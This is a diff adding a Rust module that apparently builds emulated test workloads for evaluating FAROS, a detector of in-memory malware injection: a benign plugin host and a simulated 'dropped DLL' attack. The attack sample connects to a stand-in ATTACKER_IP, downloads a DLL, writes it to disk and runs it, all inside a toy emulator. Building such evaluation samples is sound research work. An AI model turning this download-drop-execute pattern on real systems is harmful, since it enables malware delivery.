@@ -1,0 +1,174 @@
+//! Normal (registered) DLL loading workloads — the counterpart of the
+//! reflective technique (paper §II: reflective loading exists precisely to
+//! *bypass* `LoadLibrary`'s module registration).
+//!
+//! * [`plugin_host`] — benign: loads `helper.fdl` through `LdrLoadDll`,
+//!   resolves `PluginMain` from the helper's (export-table-tagged) export
+//!   table and calls it. Clean code reading tagged pointers is not a
+//!   confluence, so FAROS stays silent — while the module shows up in the
+//!   DLL list like any honest library.
+//! * [`dropped_dll_attack`] — malware that *drops* its downloaded payload
+//!   to disk and loads it normally. This is exactly the attack class the
+//!   paper scopes FAROS *out* of ("instead of writing the malware into the
+//!   hard drive, where it can be detected by anti-viruses or file-system
+//!   monitoring tools"): FAROS does not flag it, and the Cuckoo-style
+//!   baseline does — via the dropped `.dll` artifact and the DLL list.
+
+use crate::builder::{
+    connect, exit_process, finish_image, print_label, recv_into, sys, SCRATCH,
+};
+use crate::endpoints::{EndpointFactory, PayloadHandler, ATTACKER_IP, HANDLER_PORT};
+use crate::scenario::{Behavior, Category, Sample, SampleScenario};
+use faros_emu::asm::Asm;
+use faros_emu::isa::{Mem as M, Reg};
+use faros_emu::mmu::Perms;
+use faros_kernel::machine::IMAGE_BASE;
+use faros_kernel::module::{hash_name, Export, FdlImage, Section};
+use faros_kernel::nt::Sysno;
+
+/// Base address helper libraries are linked at.
+pub const DLL_BASE: u32 = 0x0200_0000;
+
+/// Export table address inside helper libraries.
+pub const DLL_EXPORT_TABLE: u32 = 0x0200_2000;
+
+/// Builds the `helper.fdl` library: exports `PluginMain`, which announces
+/// itself and returns.
+pub fn helper_dll() -> FdlImage {
+    let mut asm = Asm::new(DLL_BASE);
+    asm.label("PluginMain");
+    asm.mov_label(Reg::Ebx, "msg");
+    sys(&mut asm, Sysno::NtDisplayString, &[(Reg::Ecx, 11)]);
+    asm.ret();
+    asm.label("msg");
+    asm.raw(b"plugin main");
+    let (code, labels) = asm.assemble_with_labels().expect("helper assembles");
+    FdlImage {
+        entry: labels["PluginMain"],
+        export_table_va: DLL_EXPORT_TABLE,
+        sections: vec![Section { va: DLL_BASE, data: code, perms: Perms::RX }],
+        exports: vec![Export { name: "PluginMain".into(), va: labels["PluginMain"] }],
+    }
+}
+
+/// Emits: walk the export table at `table_va` for `hash`, leaving the
+/// resolved pointer in `EAX` (0 on miss). Same shape as the kernel-table
+/// walk but over a *user* module's table.
+fn emit_resolve_from(asm: &mut Asm, table_va: u32, hash: u32, seed: &str) {
+    let lp = format!("dres_loop_{seed}");
+    let hit = format!("dres_hit_{seed}");
+    let fail = format!("dres_fail_{seed}");
+    let done = format!("dres_done_{seed}");
+    asm.mov_ri(Reg::Esi, table_va);
+    asm.ld4(Reg::Ecx, M::reg(Reg::Esi));
+    asm.add_ri(Reg::Esi, 4);
+    asm.label(&lp);
+    asm.cmp_ri(Reg::Ecx, 0);
+    asm.jz(&fail);
+    asm.ld4(Reg::Edx, M::base_disp(Reg::Esi, 24));
+    asm.cmp_ri(Reg::Edx, hash);
+    asm.jz(&hit);
+    asm.add_ri(Reg::Esi, 32);
+    asm.sub_ri(Reg::Ecx, 1);
+    asm.jmp(&lp);
+    asm.label(&hit);
+    asm.ld4(Reg::Eax, M::base_disp(Reg::Esi, 28));
+    asm.jmp(&done);
+    asm.label(&fail);
+    asm.mov_ri(Reg::Eax, 0);
+    asm.label(&done);
+}
+
+/// The benign plugin host: `LdrLoadDll("C:/helper.fdl")`, resolve
+/// `PluginMain` from its export table, call it.
+pub fn plugin_host() -> Sample {
+    let mut asm = Asm::new(IMAGE_BASE);
+    asm.mov_label(Reg::Ebx, "dllpath");
+    sys(
+        &mut asm,
+        Sysno::LdrLoadDll,
+        &[
+            (Reg::Ecx, "C:/helper.fdl".len() as u32),
+            (Reg::Edx, SCRATCH),
+        ],
+    );
+    emit_resolve_from(&mut asm, DLL_EXPORT_TABLE, hash_name("PluginMain"), "ph");
+    asm.mov_rr(Reg::Ebp, Reg::Eax);
+    asm.call_reg(Reg::Ebp);
+    print_label(&mut asm, "done", 4);
+    exit_process(&mut asm, 0);
+    asm.label("dllpath");
+    asm.raw(b"C:/helper.fdl");
+    asm.label("done");
+    asm.raw(b"done");
+
+    let scenario = SampleScenario::new("plugin_host")
+        .program("C:/host.exe", finish_image(asm))
+        .program("C:/helper.fdl", helper_dll())
+        .autostart("C:/host.exe");
+    Sample { scenario, category: Category::Benign, behaviors: vec![Behavior::Run] }
+}
+
+/// The disk-dropping attack: download the DLL, write it to disk, load it
+/// normally, call its entry point. In-memory-injection free, so FAROS
+/// stays silent; the dropped artifact and the registered module are exactly
+/// what event-based tools key on.
+pub fn dropped_dll_attack() -> Sample {
+    let dll_bytes = helper_dll().to_bytes();
+    // Scratch: 0 sock, 4 count, 8 file handle, 12 dll base.
+    let mut asm = Asm::new(IMAGE_BASE);
+    connect(&mut asm, ATTACKER_IP, HANDLER_PORT, 0);
+    // Request and receive the DLL file image.
+    asm.ld4(Reg::Ebx, M::abs(SCRATCH));
+    asm.mov_label(Reg::Ecx, "rdy");
+    sys(&mut asm, Sysno::NtSocketSend, &[(Reg::Edx, 3), (Reg::Esi, 0)]);
+    recv_into(&mut asm, 0, SCRATCH + 0x400, 0x800, 4);
+    // Drop it to disk.
+    asm.mov_label(Reg::Ebx, "droppath");
+    sys(
+        &mut asm,
+        Sysno::NtCreateFile,
+        &[
+            (Reg::Ecx, "C:/dropped.dll".len() as u32),
+            (Reg::Edx, 0),
+            (Reg::Esi, SCRATCH + 8),
+        ],
+    );
+    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 8));
+    asm.ld4(Reg::Edx, M::abs(SCRATCH + 4));
+    sys(
+        &mut asm,
+        Sysno::NtWriteFile,
+        &[(Reg::Ecx, SCRATCH + 0x400), (Reg::Esi, 0)],
+    );
+    // Load it the *normal*, registered way and run its entry point.
+    asm.mov_label(Reg::Ebx, "droppath");
+    sys(
+        &mut asm,
+        Sysno::LdrLoadDll,
+        &[
+            (Reg::Ecx, "C:/dropped.dll".len() as u32),
+            (Reg::Edx, SCRATCH + 12),
+        ],
+    );
+    emit_resolve_from(&mut asm, DLL_EXPORT_TABLE, hash_name("PluginMain"), "dd");
+    asm.mov_rr(Reg::Ebp, Reg::Eax);
+    asm.call_reg(Reg::Ebp);
+    exit_process(&mut asm, 0);
+    asm.label("rdy");
+    asm.raw(b"RDY");
+    asm.label("droppath");
+    asm.raw(b"C:/dropped.dll");
+
+    let scenario = SampleScenario::new("dropped_dll_attack")
+        .program("C:/dropper.exe", finish_image(asm))
+        .endpoint(EndpointFactory::new(ATTACKER_IP, HANDLER_PORT, move || {
+            PayloadHandler::new(dll_bytes.clone())
+        }))
+        .autostart("C:/dropper.exe");
+    Sample {
+        scenario,
+        category: Category::NonInjectingMalware,
+        behaviors: vec![Behavior::Download, Behavior::Run],
+    }
+}
